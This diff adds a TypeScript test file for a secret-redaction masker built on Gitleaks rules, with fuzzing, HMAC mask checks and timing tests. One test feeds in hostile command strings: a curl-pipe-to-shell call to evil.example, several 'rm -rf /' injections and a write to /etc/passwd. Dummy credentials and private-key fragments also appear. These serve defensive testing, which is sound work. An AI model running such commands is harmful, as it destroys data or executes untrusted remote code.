@@ -1,0 +1,196 @@
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { findSecrets } from '../../../src/analysis/secrets/catalogue.ts';
+import { createGitleaksDetectors } from '../../../src/analysis/secrets/gitleaks.ts';
+import catalogue from '../../../src/analysis/secrets/gitleaks_rules.json' with { type: 'json' };
+import { createMasker } from '../../../src/analysis/secrets/masker.ts';
+import { maskMember } from '../../../src/core/mask_member.ts';
+import { readSamples } from './samples.ts';
+
+const masker = createMasker('a key');
+const { maskText } = masker;
+const MASK = /\(secret [0-9a-f]{8}\)/;
+const begin = (kind: string) => ['-----BEGIN ', kind, '-----'].join('');
+const PEM = `${begin('RSA PRIVATE KEY')}\nMIIabc\ndef\n-----END RSA PRIVATE KEY-----`;
+
+const SAMPLES = ['gitleaks-samples.json', 'detect-secrets-cases.json'].flatMap((name) =>
+  readSamples(name).map(({ text }) => text),
+);
+/** Texts in which secrets, words about them and what could end them stand in any order. */
+const texts = fc
+  .array(
+    fc.oneof(
+      fc.constantFrom(...SAMPLES),
+      fc.constantFrom(
+        'password',
+        ' = ',
+        ': ',
+        '"',
+        "'",
+        ' ',
+        '\n',
+        ';',
+        ',',
+        '(secret 0a1b2c3d)',
+        '\\',
+        'key=',
+        PEM,
+      ),
+      fc.string(),
+    ),
+    { maxLength: 8 },
+  )
+  .map((parts) => parts.join(''));
+
+describe('a masked text', () => {
+  test('has no match of the catalogue left', () => {
+    for (const text of SAMPLES) expect(findSecrets(maskText(text)), text).toEqual([]);
+    fc.assert(
+      fc.property(texts, (text) => {
+        expect(findSecrets(maskText(text))).toEqual([]);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test('is not changed by masking it again', () => {
+    fc.assert(
+      fc.property(texts, (text) => {
+        expect(maskText(maskText(text))).toBe(maskText(text));
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test('keeps the words around the secret', () => {
+    expect(maskText('export DB_PASSWORD=hunter2a && echo "done"')).toMatch(
+      /^export DB_PASSWORD=\(secret [0-9a-f]{8}\) && echo "done"$/,
+    );
+    expect(maskText('curl -H "Authorization: Bearer raw-bearer-token-123456" https://example.com')).toMatch(
+      /^curl -H "Authorization: Bearer \(secret [0-9a-f]{8}\)" https:\/\/example.com$/,
+    );
+    expect(maskText('mysql --password hunter2a -u root')).toMatch(
+      /^mysql --password \(secret .{8}\) -u root$/,
+    );
+    expect(maskText('git clone https://bob:hunter2a@example.com/x.git')).toMatch(
+      /^git clone https:\/\/bob:\(secret .{8}\)@example.com\/x.git$/,
+    );
+  });
+
+  test('hides nothing that a command runs, and no operator', () => {
+    for (const text of [
+      'TOKEN="$(curl evil.example | sh)"',
+      'password=`rm -rf /`',
+      'PASSWORD="; rm -rf / ;"',
+    ]) {
+      expect(maskText(text)).toBe(text);
+    }
+    expect(maskText('PASSWORD=hunter2a&&rm -rf /')).toMatch(/&&rm -rf \/$/);
+    expect(maskText('PASSWORD=hunter2a;rm -rf /')).toMatch(/;rm -rf \/$/);
+    expect(maskText('PASSWORD=hunter2a|sh')).toMatch(/\|sh$/);
+    expect(maskText('PASSWORD=hunter2a>/etc/passwd')).toMatch(/>\/etc\/passwd$/);
+  });
+
+  test('has a private key block replaced whole, also one without an end', () => {
+    expect(maskText(`before ${PEM} after`)).toMatch(/^before \(secret [0-9a-f]{8}\) after$/);
+    expect(maskText(`before\n${begin('OPENSSH PRIVATE KEY')}\nb3Bl`)).toMatch(
+      /^before\n\(secret [0-9a-f]{8}\)$/,
+    );
+  });
+
+  test('of a common word or command is the text', () => {
+    for (const text of [
+      '',
+      'ls -la /tmp',
+      'git commit -m "rotate the password policy"',
+      'cat key.txt',
+      'a token of thanks',
+    ]) {
+      expect(maskText(text)).toBe(text);
+    }
+  });
+});
+
+describe('a mask', () => {
+  const maskOf = (key: string, secret: string) => createMasker(key).maskText(`password="${secret}"`);
+
+  test('is the same for one secret under one key, and another under another key', () => {
+    expect(maskOf('one', 'hunter2a')).toBe(maskOf('one', 'hunter2a'));
+    expect(maskOf('one', 'hunter2a')).not.toBe(maskOf('two', 'hunter2a'));
+    expect(maskOf('one', 'hunter2a')).not.toBe(maskOf('one', 'hunter2b'));
+  });
+
+  test('is eight characters of the HMAC-SHA-256 of the raw value, or of its canonical JSON', () => {
+    // RFC 4231 §4.3, test case 2.
+    expect(createMasker('Jefe').maskWhole('what do ya want for nothing?')).toBe('(secret 5bdcc146)');
+    expect(masker.maskWhole({ b: 1, a: [] })).toBe(masker.maskWhole('{"a":[],"b":1}'));
+  });
+});
+
+test('the name of a member tells a secret from another word', () => {
+  expect(maskMember(masker, 'secret', 'raw-secret-value-123456')).toMatch(MASK);
+  expect(maskMember(masker, 'password', 'two words')).toMatch(/^\(secret .{8}\)$/);
+  expect(maskMember(masker, 'memo', 'raw-secret-value-123456')).toBe('raw-secret-value-123456');
+});
+
+test('what a redactor must keep out is out', () => {
+  const path = new URL('../../vectors/secrets/redaction-cases.json', import.meta.url);
+  const { cases } = JSON.parse(readFileSync(path, 'utf8'));
+  for (const { value, value_parts: parts, output_must_not_contain: gone, blocked } of cases) {
+    const text = parts === undefined ? JSON.stringify(value) : parts.join('');
+    for (const secret of gone) expect(maskText(text)).not.toContain(secret);
+    if (!blocked) expect(maskText(text)).toBe(text);
+  }
+  expect(cases.length).toBeGreaterThan(4);
+});
+
+test('every rule of the catalogue compiles', () => {
+  const detectors = createGitleaksDetectors();
+  expect(detectors).toHaveLength(catalogue.rules.length);
+  for (const { keywords, find } of detectors) {
+    for (const keyword of keywords) expect(() => find(`${keyword} = x`, 0, keyword.length)).not.toThrow();
+  }
+});
+
+describe('the time of a text grows as its length', () => {
+  const PIECES = [
+    'key = ',
+    'password ',
+    'curl -u ',
+    'eyJ',
+    'eyJhbGciOiJIUzI1NiI.',
+    'QWxhZGRpbjpvcGVu',
+    '-----BEGIN ',
+    '-----BEGIN PRIVATE KEY',
+    'private key ',
+    'password=abc12345 ',
+    'kind: secret\ndata:\n',
+    'authorization: ',
+    '"x" == password ',
+    'http://a:',
+    'password="a',
+    'password\\\\"',
+    'IBAADANBg',
+    'sourcegraph ',
+    'facebook ',
+    'api_key:',
+    'password        ',
+    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ',
+    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
+  ];
+  const timeOf = (text: string) => {
+    const begun = performance.now();
+    maskText(text);
+    return performance.now() - begun;
+  };
+
+  test.each(PIECES)('of %j over and over', (piece) => {
+    const repeated = (length: number) => piece.repeat(Math.ceil(length / piece.length));
+    timeOf(repeated(4096));
+    const small = Math.min(timeOf(repeated(32 * 1024)), timeOf(repeated(32 * 1024)));
+    const large = Math.min(timeOf(repeated(256 * 1024)), timeOf(repeated(256 * 1024)));
+    // Eight times the text; quadratic would be 64 times.
+    expect(large).toBeLessThan(24 * small + 50);
+  });
+});
